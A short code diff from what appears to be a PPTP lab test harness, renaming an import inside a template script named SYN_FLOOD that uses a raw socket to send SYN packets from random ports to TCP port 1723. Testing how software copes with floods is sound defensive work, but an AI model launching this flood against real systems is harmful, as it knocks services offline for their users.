@@ -465,7 +465,7 @@ def limited(lab, name):
 SYN_FLOOD = """
 import random, socket, sys
 sys.path.insert(0, %r)
-from pptplab.hostile import tcp_segment
+from pptplab.hostile_tcp import tcp_segment
 s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 for port in random.sample(range(20000, 60000), %d):
     s.sendto(tcp_segment(%r, port, %r, 1723, 0x02, random.getrandbits(32), 0), (%r, 0))
